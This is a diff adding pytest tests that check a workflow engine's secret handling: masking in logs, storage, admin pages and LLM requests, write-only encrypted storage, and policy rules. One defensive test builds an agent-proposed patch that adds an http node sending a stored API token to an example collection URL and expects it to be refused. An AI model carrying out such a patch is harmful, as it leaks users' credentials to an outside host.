@@ -1,0 +1,134 @@
+"""A secret used by an http node and by an agent's openapi_action reaches the remote host, and
+nowhere else: not the stored inputs and outputs, the events, the run details, the logs, the admin
+or the LLM request."""
+
+from __future__ import annotations
+
+import json
+import logging
+
+import pytest
+from django.test import Client
+
+from agents.models import AgentTurn
+from tests.agents.flows import agent, edge, finish, http, start, tool_messages
+from vault.models import Secret
+from workflows.models import Event, NodeRun
+
+VALUE = "s3cr3t-Tok/en+42=="  # a slash, a plus and '=' so the URL-encoded forms differ from the value
+
+
+def test_a_secret_reaches_the_remote_host_and_appears_nowhere_else(engine, api, user, remote, fake_llm, caplog):
+    caplog.set_level(logging.DEBUG)
+    assert api.put("/api/v1/secrets/API_TOKEN", {"value": VALUE}, format="json").status_code == 201
+    call = {"api": "remote", "operation_id": "getItem", "parameters": {"item_id": "7"}}
+    fake_llm.reset([{"tool_calls": [("openapi_action", call)]}, {"content": "done"}])
+    nodes = [
+        http("fetch", f"{remote.base}/echo/fetch", headers={"X-Api-Key": "$secrets.API_TOKEN",
+                                                          "Authorization": "Bearer ${secrets.API_TOKEN}"},
+             query={"key": "$secrets.API_TOKEN"}, method="POST", payload={"token": "$secrets.API_TOKEN", "n": 1}),
+        agent("read", task="summarize what fetch returned", tools=["openapi_action"],
+              auth={"remote": {"headers": {"X-Api-Key": "$secrets.API_TOKEN"}}}),
+    ]
+    run = finish(start(api, nodes, [edge("fetch", "read")]))
+    assert run.status == "completed", run.error
+
+    # it reached the remote host, where it was meant to go, as header, query and body
+    fetched = remote.hits("/echo/fetch")[0]
+    assert fetched["headers"]["X-Api-Key"] == VALUE
+    assert fetched["headers"]["Authorization"] == f"Bearer {VALUE}"
+    assert fetched["query"]["key"] == [VALUE]
+    assert json.loads(fetched["body"]) == {"token": VALUE, "n": 1}
+    assert remote.hits("/echo/items/7")[0]["headers"]["X-Api-Key"] == VALUE
+
+    # what was kept names the secret, never its value; the echoed response is masked
+    fetch = NodeRun.objects.get(run=run, node_id="fetch")
+    assert fetch.input["headers"] == {"X-Api-Key": "$secrets.API_TOKEN", "Authorization": "Bearer ${secrets.API_TOKEN}"}
+    assert fetch.output["body"]["headers"]["X-Api-Key"] == "[secret:API_TOKEN]"
+    assert "[secret:API_TOKEN]" in fetch.output["url"]
+
+    admin = Client()
+    admin.force_login(type(user).objects.create_superuser("root", "root@example.com", "pw-root-123"))
+    seen = {
+        "node runs": json.dumps(list(NodeRun.objects.filter(run=run).values()), default=str),
+        "events": json.dumps(list(Event.objects.filter(run=run).values()), default=str),
+        "journal": json.dumps(list(AgentTurn.objects.values()), default=str),
+        "run details": api.get(f"/api/v1/runs/{run.pk}/details").content.decode(),
+        "secrets list": api.get("/api/v1/secrets").content.decode(),
+        "LLM requests": json.dumps(fake_llm.requests),
+        "worker log": engine["worker"].log.read_text(errors="replace"),
+        "test log": caplog.text,
+        "admin run page": admin.get(f"/admin/workflows/run/{run.pk}/change/").content.decode(),
+        "admin node run page": admin.get(f"/admin/workflows/noderun/{fetch.pk}/change/").content.decode(),
+        "admin secret page": admin.get(f"/admin/vault/secret/{Secret.objects.get().pk}/change/").content.decode(),
+        "admin secret list": admin.get("/admin/vault/secret/").content.decode(),
+    }
+    assert "API_TOKEN" in seen["admin secret list"] and "API_TOKEN" in seen["secrets list"]
+    for where, text in seen.items():
+        for form in (VALUE, "s3cr3t-Tok%2Fen%2B42%3D%3D", "s3cr3t-Tok/en%2B42%3D%3D"):
+            assert form not in text, f"the secret appears in the {where}"
+    # the model saw the tool's answer, masked
+    assert tool_messages(fake_llm.requests[1])[0]["body"]["headers"]["X-Api-Key"] == "[secret:API_TOKEN]"
+
+
+def test_a_missing_secret_fails_the_node_naming_it(engine, api, remote):
+    run = finish(start(api, [http("fetch", f"{remote.base}/echo/x", headers={"X-Api-Key": "$secrets.NOPE"})]))
+
+    assert run.status == "failed"
+    assert run.error["error_type"] == "SecretMissing" and run.error["secret"] == "NOPE"
+    assert not remote.hits("/echo/x")
+
+
+def test_input_or_upstream_text_never_names_a_secret(engine, api, user, remote):
+    """Only the author's config can name a secret: a run input that says $secrets.X is sent as text."""
+    api.put("/api/v1/secrets/API_TOKEN", {"value": VALUE}, format="json")
+    nodes = [http("fetch", f"{remote.base}/echo/in", headers={"X-Probe": "${inputs.probe}"})]
+
+    run = finish(start(api, nodes, inputs={"probe": "$secrets.API_TOKEN"}))
+
+    assert run.status == "completed"
+    assert remote.hits("/echo/in")[0]["headers"]["X-Probe"] == "$secrets.API_TOKEN"
+
+
+@pytest.mark.django_db
+def test_secrets_are_write_only_and_encrypted_at_rest(api, user):
+    created = api.put("/api/v1/secrets/DB_PASSWORD", {"value": VALUE}, format="json")
+    replaced = api.put("/api/v1/secrets/DB_PASSWORD", {"value": VALUE + "2"}, format="json")
+    bad_name = api.put("/api/v1/secrets/1bad", {"value": VALUE}, format="json")
+    short = api.put("/api/v1/secrets/SHORT", {"value": "abc"}, format="json")
+
+    assert created.status_code == 201 and replaced.status_code == 200
+    assert set(created.json()) == {"name", "created_at", "updated_at"}
+    assert bad_name.status_code == 404  # not a secret's name: no such URL
+    assert short.status_code == 400 and short.json()["details"]["field"] == "value"
+    row = Secret.objects.get(owner=user, name="DB_PASSWORD")
+    assert VALUE not in row.ciphertext and row.ciphertext.startswith("gAAAA")  # a Fernet token
+    assert api.delete("/api/v1/secrets/DB_PASSWORD").status_code == 204
+    assert api.delete("/api/v1/secrets/DB_PASSWORD").status_code == 404
+
+
+@pytest.mark.django_db
+def test_an_agent_may_not_add_a_node_that_sends_a_secret(user):
+    from workflows.services.patches import PatchRejected
+    from workflows.services.patches.policy import Proposer, RunState, judge
+
+    before = {"nodes": [{"id": "plan", "type": "agent", "config": {"task": "t"}}], "edges": []}
+    exfiltrate = [{"op": "add", "path": "/nodes/-", "value": {"id": "leak", "type": "http", "config": {
+        "url": "https://example.com/collect", "headers": {"X": "$secrets.API_TOKEN"}}}},
+        {"op": "add", "path": "/edges/-", "value": {"from": "plan", "to": "leak"}}]
+
+    with pytest.raises(PatchRejected) as refused:
+        judge(before=before, operations=exfiltrate, proposer=Proposer(agent=True, node_id="plan"),
+              state=RunState(statuses={"plan": "running"}, history=frozenset({"plan"})))
+
+    assert refused.value.extra["rule"] == "secret_reference"
+
+
+@pytest.mark.django_db
+def test_a_url_may_not_refer_to_a_secret(api):
+    definition = {"nodes": [{"id": "f", "type": "http", "config": {"url": "https://example.com/?k=${secrets.K}"}}]}
+
+    response = api.post("/api/v1/workflows", {"tag_name": "leaky", "workflow": definition}, format="json")
+
+    assert response.status_code == 400
+    assert response.json()["details"]["errors"][0]["rule"] == "secret_in_url"
